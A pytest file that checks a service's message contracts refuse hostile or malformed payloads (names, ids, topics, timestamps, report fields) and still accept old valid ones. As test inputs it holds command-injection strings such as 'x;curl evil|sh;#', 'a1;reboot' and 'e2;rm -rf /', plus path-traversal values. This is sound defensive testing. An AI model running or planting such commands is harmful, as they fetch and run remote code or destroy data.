"""The contracts refuse hostile or broken payloads at decode, each with the reason, and keep old ones valid."""

from __future__ import annotations

import json
import time

import pytest
from pydantic import ValidationError

from fogverse.contracts import (
    INSTANCE_ID_PATTERN,
    KAFKA_NAME_PATTERN,
    MAX_CLOCK_AHEAD_S,
    SERVICE_NAME_PATTERN,
    Analysis,
    Heartbeat,
    Report,
    check_instance_id,
    check_kafka_name,
    check_service_name,
    parse_observer_message,
)

NOW = time.time()
#: every service name the apps, tests and benchmarks use (grep ``SERVICE =``, ``service_name=``)
KNOWN_SERVICES = ["analyzer", "crawler", "notifier", "discord_bot", "line_bot", "test-app", "controller-test-app",
                  "bench", "bench-1a2b3c", "feeder-1a2b3c", "svc-1a2b3c4d"]
HOSTILE_NAMES = {
    "shell": "x;curl evil|sh;#",
    "path": "../../../../tmp/x",
    "long": "a" * 1100,
    "trailing newline": "analyzer\n",
    "capital": "Analyzer",
    "leading digit": "1analyzer",
    "empty": "",
    "space": "ana lyzer",
    "41 characters": "a" * 41,
}


def pair(**overrides) -> dict:
    return {"kind": "service_pair", "source_topic": "analyze", "target_topic": "client",
            "consumer_group": "analyzer", "deploy_configs": {"max_instance": 3}, "service": "analyzer",
            "instance_id": "host-1234", "timestamp": NOW, **overrides}


def heartbeat(**overrides) -> dict:
    return {"kind": "heartbeat", "service": "analyzer", "instance_id": "host-1234", "timestamp": NOW, **overrides}


def throughput(**overrides) -> dict:
    return {"kind": "throughput", "target_topic": "client", "total_messages": 5, "interval_s": 1.0,
            "service": "analyzer", "instance_id": "analyzer-1", "timestamp": NOW, **overrides}


def joined(**overrides) -> dict:
    return {"kind": "consumer_joined", "topic": "analyze", "group_id": "analyzer", "assigned_partitions": 1,
            "service": "analyzer", "instance_id": "analyzer-1", "timestamp": NOW, **overrides}


def encoded(payload: dict) -> bytes:
    # the wire form, with JSON's NaN/Infinity spelled the way Python's json writes them
    return json.dumps(payload).encode()


ACCEPTED = {
    "an old heartbeat, before busy figures": heartbeat(),
    "a heartbeat with busy figures": heartbeat(interval_s=1.0, busy_s=0.4, handled=12),
    "an idle processing app": heartbeat(interval_s=1.0, busy_s=0.0, handled=0),
    "a publisher's heartbeat: an interval, no busy figures": heartbeat(interval_s=1.0),
    "a clock 40 s behind": heartbeat(timestamp=NOW - 40),
    "a clock a little ahead": heartbeat(timestamp=NOW + MAX_CLOCK_AHEAD_S - 60),
    "a LOCAL instance id": throughput(instance_id="analyzer-3"),
    "a hostname-pid instance id": throughput(instance_id="ip-10-0-0-5.ec2.internal-81234"),
    "a dead-letter topic": throughput(target_topic="analyze.dlq"),
    "a consumer assignment": joined(),
    "a service pair": pair(),
    "an older build's pair with a machine type (ignored)": pair(deploy_configs={
        "max_instance": 2, "cloud_provider": "AWS", "machine_type": "e2;rm -rf /"}),
    **{f"the service name {name}": pair(service=name) for name in KNOWN_SERVICES},
}

REFUSED = {
    **{f"a {why} service name": (heartbeat(service=name), "service name") for why, name in HOSTILE_NAMES.items()},
    "a hostile service in a pair": (pair(service="x;curl evil|sh;#"), "service name 'x;curl evil|sh;#' is refused"),
    "a path as service in a report": (throughput(service="../../../../tmp/x"), "service name"),
    "a 1,100-character service in a join": (joined(service="a" * 1100), "(1100 characters)"),
    "a path as instance id": (heartbeat(instance_id="../../etc/cron.d/evil-1"), "instance id"),
    "a shell instance id": (throughput(instance_id="a1;reboot"), "instance id"),
    "a 101-character instance id": (joined(instance_id="a" * 101), "instance id"),
    "a topic with a slash": (throughput(target_topic="client/../x"), "topic or group name"),
    "a group with a space": (pair(consumer_group="my group"), "topic or group name"),
    "an empty source topic": (pair(source_topic=""), "topic or group name"),
    "a 250-character topic": (joined(topic="t" * 250), "topic or group name"),
    "an infinite timestamp": (heartbeat(timestamp=float("inf")), "finite number"),
    "a NaN timestamp": (throughput(timestamp=float("nan")), "finite number"),
    # a day ahead, not just past the limit: NOW is taken when the module is collected, maybe long before this runs
    "a far-future timestamp": (heartbeat(timestamp=NOW + MAX_CLOCK_AHEAD_S + 86400), "in the future"),
    "a far-future pair": (pair(timestamp=NOW + 10 * 365 * 86400), "in the future"),
    "an infinite interval": (throughput(interval_s=float("inf")), "finite number"),
    "a NaN busy time": (heartbeat(interval_s=1.0, busy_s=float("nan"), handled=1), "finite number"),
    "a negative busy time": (heartbeat(interval_s=1.0, busy_s=-0.1, handled=1), "greater than or equal to 0"),
    "a negative handled count": (heartbeat(interval_s=1.0, busy_s=0.1, handled=-1), "greater than or equal to 0"),
    "busy time without a count": (heartbeat(interval_s=1.0, busy_s=0.1), "both or neither"),
    "busy figures without an interval": (heartbeat(busy_s=0.1, handled=3), "need the interval_s"),
    "a zero interval": (heartbeat(interval_s=0.0), "greater than 0"),
}


@pytest.mark.parametrize("payload", ACCEPTED.values(), ids=ACCEPTED.keys())
def test_observer_contracts_accept(payload):
    message = parse_observer_message(encoded(payload))
    assert message.kind == payload["kind"]
    assert message.service == payload["service"]


@pytest.mark.parametrize(("payload", "reason"), REFUSED.values(), ids=REFUSED.keys())
def test_observer_contracts_refuse_with_the_reason(payload, reason):
    with pytest.raises(ValidationError) as refused:
        parse_observer_message(encoded(payload))
    assert reason in str(refused.value)


def test_a_long_refused_name_is_not_repeated_whole_in_the_error():
    with pytest.raises(ValueError) as refused:
        check_service_name("a" * 1100)
    assert len(str(refused.value)) < 400


def test_old_heartbeats_read_without_busy_figures():
    old = b'{"kind": "heartbeat", "service": "crawler", "instance_id": "h-1", "timestamp": 1.0}'
    beat = parse_observer_message(old)
    assert isinstance(beat, Heartbeat)
    assert (beat.interval_s, beat.busy_s, beat.handled) == (None, None, None)


@pytest.mark.parametrize("name", KNOWN_SERVICES)
def test_check_service_name_accepts_every_name_in_use(name):
    assert check_service_name(name) == name


@pytest.mark.parametrize("name", HOSTILE_NAMES.values(), ids=HOSTILE_NAMES.keys())
def test_check_service_name_refuses_with_a_clear_message(name):
    with pytest.raises(ValueError, match=r"service name .* is refused: a lowercase letter"):
        check_service_name(name)


@pytest.mark.parametrize(("check", "good", "bad"), [
    (check_instance_id, "analyzer-2", "-analyzer"),
    (check_instance_id, "host.example-77", "host\n"),
    (check_kafka_name, "analyze.dlq", "analyze dlq"),
    (check_kafka_name, "observer-1a2b", "a" * 250),
])
def test_name_checks(check, good, bad):
    assert check(good) == good
    with pytest.raises(ValueError, match="is refused"):
        check(bad)


def test_patterns_are_the_documented_ones():
    assert SERVICE_NAME_PATTERN == r"^[a-z][a-z0-9_-]{0,39}$"
    assert INSTANCE_ID_PATTERN == r"^[A-Za-z0-9][A-Za-z0-9._-]{0,99}$"
    assert KAFKA_NAME_PATTERN == r"^[A-Za-z0-9._-]{1,249}$"


# ─── analyze and client topics ──────────────────────────────────────────────────────────────


def report(**overrides) -> dict:
    return {"text": "smoke over the market", "source": "crawler", **overrides}


REPORTS_ACCEPTED = {
    "a plain report": report(),
    "200-character author and channel ids": report(author_id="a" * 200, channel_id="c" * 200),
    "a reply's 200-character report id": report(reply_to="r" * 200),
    "32 metadata entries at the limits": report(metadata={f"k{i:02d}" + "x" * 61: "v" * 1000 for i in range(32)}),
}

REPORTS_REFUSED = {
    "created_at 1e999": (b'{"text": "fire", "source": "crawler", "created_at": 1e999}', "finite number"),
    "created_at NaN": (b'{"text": "fire", "source": "crawler", "created_at": NaN}', "finite number"),
    "received_at -Infinity": (b'{"text": "fire", "source": "crawler", "received_at": -Infinity}', "finite number"),
    "a 201-character author id": (encoded(report(author_id="a" * 201)), "author_id"),
    "a 201-character channel id": (encoded(report(channel_id="c" * 201)), "channel_id"),
    "a 201-character reply_to": (encoded(report(reply_to="r" * 201)), "reply_to"),
    "33 metadata entries": (encoded(report(metadata={f"k{i}": "v" for i in range(33)})), "at most 32 items"),
    "a 65-character metadata key": (encoded(report(metadata={"k" * 65: "v"})), "at most 64 characters"),
    "a 1,001-character metadata value": (encoded(report(metadata={"k": "v" * 1001})), "at most 1000 characters"),
}


@pytest.mark.parametrize("payload", REPORTS_ACCEPTED.values(), ids=REPORTS_ACCEPTED.keys())
def test_reports_accept(payload):
    assert Report.model_validate_json(encoded(payload)).text == payload["text"]


@pytest.mark.parametrize(("raw", "reason"), REPORTS_REFUSED.values(), ids=REPORTS_REFUSED.keys())
def test_reports_refuse_with_the_reason(raw, reason):
    with pytest.raises(ValidationError) as refused:
        Report.model_validate_json(raw)
    assert reason in str(refused.value)


@pytest.mark.parametrize("score", ["NaN", "Infinity", "1e999"])
def test_analysis_refuses_non_finite_scores(score):
    raw = ('{"report": {"text": "fire", "source": "crawler"}, "emergency": true, "model_version": "m1", '
           f'"emergency_score": 0.5, "category": "fire", "category_score": {score}}}').encode()
    with pytest.raises(ValidationError, match="finite number"):
        Analysis.model_validate_json(raw)
    with pytest.raises(ValidationError, match="finite number"):
        Analysis.model_validate_json(raw.replace(b'"emergency_score": 0.5', f'"emergency_score": {score}'.encode()))
